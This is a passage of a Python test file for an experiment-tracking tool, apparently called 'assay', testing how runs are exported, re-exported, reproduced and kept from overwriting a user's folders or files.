    assert (target / "code" / "experiments" / "diamond.py").is_file()
    missing = run_cli("export", "full", "9", cwd=tmp_project)
    assert missing.code == 1 and "No run '9'" in missing.text


@pytest.mark.parametrize("elsewhere", [False, True], ids=["in-place", "elsewhere"])
def test_exporting_a_run_again_keeps_what_its_earlier_export_held(
    tmp_project: Path, elsewhere: bool
) -> None:
    """Once the project's cache had lost a run's artifacts (gc, a deleted cache), exporting
    the run again listed them as "no longer in the cache" and, in place, replaced the
    export that held them with one that did not."""
    ok(run_cli("run", "diamond", "-p", "two", "--store-full", cwd=tmp_project))
    folder = exported(tmp_project)
    first = json.loads((folder / "run.json").read_text())["export"]["artifacts"]
    assert first["copied"] == 9 and first["missing"] == []
    shutil.rmtree(tmp_project / "data" / "cache")

    target = tmp_project.parent / "again" if elsewhere else folder
    args = ["-o", target] if elsewhere else []
    ok(run_cli("export", "full", "1", *args, cwd=tmp_project))

    again = json.loads((target / "run.json").read_text())["export"]["artifacts"]
    assert again["copied"] == 9 and again["missing"] == [] and again["changed"] == [], again
    reproduced = run_cli("reproduce", target, cwd=tmp_project)
    assert reproduced.code == 0 and "the reproduction is exact" in reproduced.text, reproduced


def test_how_a_recorded_run_is_started_again() -> None:
    from assay.export.reproduce import rerun_spec

    record = {"run": {"id": "x-0001", "experiment": "x", "command": "t", "config": {
        "experiment": "x", "param_files": ["grid", "/p/params/more.py"], "names": ["a"],
        "indices": [2], "overrides": ["seed=7"], "prefix": "other", "lazy": True}}}  # fmt: skip
    spec = rerun_spec(record, root="/p")
    assert spec.cli_args() == ["run", "x", "-p", "grid", "-p", "params/more.py", "--names", "a",
                               "--indices", "2", "--set", "seed=7", "--prefix", "other", "--lazy"]  # fmt: skip
    with pytest.raises(AssayError, match="outside the project"):
        rerun_spec(record, root="/elsewhere")
    # A run recorded before the parameter files were kept: read from its command line.
    record["run"]["config"] = {"experiment": "x", "overrides": []}
    record["run"]["command"] = "assay run x -p grid --names a -q"
    assert rerun_spec(record).cli_args() == ["run", "x", "-p", "grid", "--names", "a"]
    record["run"]["config"]["param_sets_given"] = True
    with pytest.raises(AssayError, match="from Python"):
        rerun_spec(record)


# -- where exports may write -----------------------------------------------------------------


def listing(folder: Path) -> list[str]:
    """Every path under ``folder`` (but the run store's files, which any command may touch)."""
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if "assay.db" not in p.name)


def test_export_full_replaces_an_earlier_export_and_nothing_else(tmp_path: Path) -> None:
    """`assay export full RUN -o DIR` emptied DIR whatever it held: `-o "$PWD"` in the
    project deleted the project, `-o ~` would have deleted the home folder."""
    project = copy_project("basic", tmp_path)
    ok(run_cli("run", "diamond", "-p", "two", "-q", cwd=project))
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.tex").write_text("years of work")
    before = listing(tmp_path)

    for output, cwd, says in [
        (mine, project, f"{mine} exists and is not a full export written by assay"),
        (project, project, f"Will not replace {project.resolve()}: it is the project folder"),
        (tmp_path, project, f"Will not replace {tmp_path.resolve()}: it holds"),
        (".", project / "experiments", "it is the current folder"),
    ]:
        result = run_cli("export", "full", "1", "-o", output, cwd=cwd)
        assert result.code == 1 and says in result.text, result
        assert "Traceback" not in result.output, result
    assert listing(tmp_path) == before

    target = tmp_path / "export"
    ok(run_cli("export", "full", "1", "-o", target, cwd=project))
    (target / "notes.md").write_text("mine")
    ok(run_cli("export", "notebook", "1", "-o", target / "run.ipynb", cwd=project))
    ok(run_cli("export", "full", "1", "-o", target, cwd=project))  # an earlier export: replaced
    record = json.loads((target / "run.json").read_text())
    assert record["export"]["format"] == "assay-export/1"
    assert (target / "notes.md").read_text() == "mine" and (target / "run.ipynb").is_file()
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".")]

    # A reproduction runs inside an export: that export is never replaced from there.
    inside = target / "reproductions" / "basic"
    shutil.copytree(project, inside)
    result = run_cli("export", "full", "1", "-o", target, cwd=inside)
    assert result.code == 1 and f"it holds {inside.resolve()}" in result.text, result
    assert (inside / "experiments" / "diamond.py").is_file()


def test_export_full_keeps_the_run_s_notebook_and_docker_context(tmp_project: Path) -> None:
    """The run's folder holding only its notebook and build context is assay's own: the
    full export goes there, and they stay."""
    ok(run_cli("run", "diamond", "-p", "two", "-q", "--notebook", cwd=tmp_project))
    ok(run_cli("export", "docker", "latest", "--no-build", cwd=tmp_project))
    ok(run_cli("export", "full", "latest", cwd=tmp_project))
    folder = exported(tmp_project)
    assert (folder / "run.json").is_file() and (folder / "docker" / "Dockerfile").is_file()
    assert (folder / f"{folder.name}.ipynb").is_file()


def test_export_notebook_overwrites_only_a_notebook_it_wrote(tmp_project: Path) -> None:
    """`assay export notebook RUN -o FILE` overwrote any file, a thesis as well."""
    ok(run_cli("run", "diamond", "-p", "two", "-q", cwd=tmp_project))
    thesis = tmp_project / "thesis.tex"
    thesis.write_text("\\documentclass{book}")
    analysis = tmp_project / "analysis.ipynb"  # a notebook, but not one assay wrote
    analysis.write_text(json.dumps({"cells": [], "metadata": {}, "nbformat": 4,
                                    "nbformat_minor": 5}))  # fmt: skip
    for path, was in [(thesis, thesis.read_text()), (analysis, analysis.read_text())]:
        result = run_cli("export", "notebook", "1", "-o", path, cwd=tmp_project)
        assert result.code == 1, result
        assert f"{path} exists and is not a notebook written by assay" in result.text, result
        assert path.read_text() == was

    ours = tmp_project / "run.ipynb"
    ok(run_cli("export", "notebook", "1", "-o", ours, cwd=tmp_project))
    ours.write_text(ours.read_text().replace("# assay run", "# my edited run"))
    ok(run_cli("export", "notebook", "1", "-o", ours, cwd=tmp_project))  # its own: overwritten
    assert "# my edited run" not in ours.read_text()
    assert json.loads(ours.read_text())["metadata"]["assay"]["format"] == "assay-notebook/1"


def test_output_paths_through_a_file_are_refused_in_one_paragraph(tmp_project: Path) -> None:
    """A path through a regular file gave NotADirectoryError or FileExistsError tracebacks."""
    from assay.export.full import export_run
    from assay.export.notebook import write_notebook

    ok(run_cli("run", "diamond", "-p", "two", "-q", cwd=tmp_project))
    afile = tmp_project.parent / "afile"
    afile.write_text("data")
    before = listing(tmp_project.parent)
    for command, output in [("full", afile / "sub"), ("notebook", afile / "x.ipynb"),
                            ("docker", afile / "d")]:  # fmt: skip
        options = ["--no-build"] if command == "docker" else []
        result = run_cli("export", command, "1", *options, "-o", output, cwd=tmp_project)
        assert result.code == 1 and "Traceback" not in result.output, result
        assert f"Cannot write {output}: {afile} is a file, not a folder" in result.text, result
    assert listing(tmp_project.parent) == before and afile.read_text() == "data"

    config = ProjectConfig.load(tmp_project)  # the CLI's click.Path checks, from Python
    for export in (export_run, export_docker_context):
        with pytest.raises(AssayError, match="afile is a file, not a folder"):
            export(config, 1, destination=afile)
    with pytest.raises(AssayError, match="is a folder, not a file"):
        write_notebook(config, 1, destination=tmp_project)
    assert listing(tmp_project.parent) == before


DRAWS = """
import os
from dataclasses import dataclass
import assay
from assay.caching import JsonCacher

@dataclass
class Params(assay.ExperimentParameters):
    n: int = 3

@assay.stage(outputs=["a", "n"], cachers=[JsonCacher, JsonCacher])
def draw(record):
    return os.urandom(8).hex(), record.params.n  # "a" is not deterministic, "n" is

@assay.stage(outputs=["r"], cachers=[JsonCacher])
def noise(record):
    return os.urandom(8).hex()

def get_params():
    return [Params(name="p")]

def run(param_sets, manager):
    for p in param_sets:
        noise(draw(assay.Record(manager, p)))
"""


def test_an_older_run_s_export_ships_none_of_a_later_run_s_artifacts(tmp_path: Path) -> None:
    """Run 2 (--overwrite) recomputed a stage that is not deterministic under the same key:
    exporting run 1 copied run 2's files (and linked them), said "0 copied, 1 changed", let
    assay.load give run 2's value, and reproduce called the copy "damaged"."""
    project = copy_project("repro", tmp_path)
    (project / "experiments" / "draws.py").write_text(DRAWS)
    ok(run_cli("run", "draws", "-q", cwd=project))
    ok(run_cli("run", "draws", "--overwrite", "-q", cwd=project))
    with RunStore(project / "assay.db") as store:
        first = {a.name: a for a in store.artifacts(1)}
        second = {a.name: a for a in store.artifacts(2)}
    assert {a.key for a in first.values()} == {a.key for a in second.values()}
    later = {second[name].checksum for name in ("a", "r")}
    assert not later & {first["a"].checksum, first["r"].checksum}
    folder = tmp_path / "export1"

    result = ok(run_cli("export", "full", "1", "-o", folder, cwd=project))

    assert "1 artifact(s) copied" in result.text and "2 changed since the run" in result.text
    contents = json.loads((folder / "run.json").read_text())["export"]["artifacts"]
    assert contents["copied"] == 1  # "n": the same bytes as run 1's
    assert sorted(c["key"] for c in contents["changed"]) == sorted([first["a"].key, first["r"].key])
    cache = folder / "cache"
    shipped = [p for p in (cache / "objects").rglob("*") if p.is_file()]
    assert sorted(p.name for p in shipped) == ["n.json", "n.meta.json"], shipped
    for path in shipped:
        assert all(checksum not in path.read_text() for checksum in later)
    by_name = cache / "by-name" / "draws" / "p"
    assert (by_name / "draw").is_dir() and not os.path.lexists(by_name / "noise")
    assert assay.load(key=first["n"].key, cache_dir=cache, project_root=folder) == 3
    with pytest.raises(AssayError, match="No cached artifact"):
        assay.load(key=first["a"].key, cache_dir=cache, project_root=folder)

    reproduced = run_cli("reproduce", folder, cwd=tmp_path)

    rows = {(r[2], r[3]): r for r in _table_rows(reproduced.stdout)}
    assert rows[("draw", "n")][0] == "identical", reproduced
    for stage, name in (("draw", "a"), ("noise", "r")):
        assert rows[(stage, name)][0] == "not exported", reproduced
    assert "damaged" not in reproduced.text and "changed since the run" in reproduced.text
    assert "1 identical, 2 not exported" in reproduced.text, reproduced

    # An export made before such artifacts were left out holds the later run's copies.
    for name in ("draw", "noise"):
        stage = (project / "data" / "cache" / "by-name" / "draws" / "p" / name).resolve()
        shutil.copytree(stage, cache / "objects" / stage.parent.name / stage.name,
                        dirs_exist_ok=True)  # fmt: skip
    again = run_cli("reproduce", folder, cwd=tmp_path)
    assert "damaged" not in again.text and "1 identical, 2 not exported" in again.text, again


def _table_rows(text: str) -> list[list[str]]:
    """The body rows of the tables rich printed, as lists of cell texts (first lines)."""
    return [
        [cell.strip() for cell in line.strip().strip("│").split("│")]
        for line in text.splitlines()
        if line.strip().startswith("│") and line.strip().split("│")[1].strip()
    ]


def test_the_notebook_in_the_run_s_export_loads_the_export_s_artifacts(
    tmp_path: Path, monkeypatch
) -> None:
    """The notebook `--store-full --notebook` writes into the export loaded from the
    project's cache only: after `assay cache gc`, and in a copy of the export, every load
    cell failed with "No cached artifact has key ...", though the export's cache/ beside
    it holds them all."""
    nbformat = pytest.importorskip("nbformat")
    monkeypatch.setenv("JUPYTER_PLATFORM_DIRS", "1")
    project = copy_project("basic", tmp_path)
    ok(run_cli("run", "diamond", "-p", "two", "-q", "--store-full", "--notebook", cwd=project))
    ok(run_cli("cache", "gc", "--older-than", "0", cwd=project))
    export = exported(project)
    copy = tmp_path / "colleague" / "the run"
    shutil.copytree(export, copy, symlinks=True)

    for folder in (export, copy):
        path = folder / f"{export.name}.ipynb"
        notebook = nbformat.read(str(path), as_version=4)
        rerun = next(i for i, c in enumerate(notebook.cells) if c.source == "## Re-run")
        notebook.cells = notebook.cells[:rerun]  # a copy alone cannot re-run (no project)
        text = execute_notebook(notebook, folder)  # raises CellExecutionError if a cell fails
        assert f"artifacts from: {folder / 'cache'}" in text
        assert "{'sum': 11, 'n': 3}" in text, text
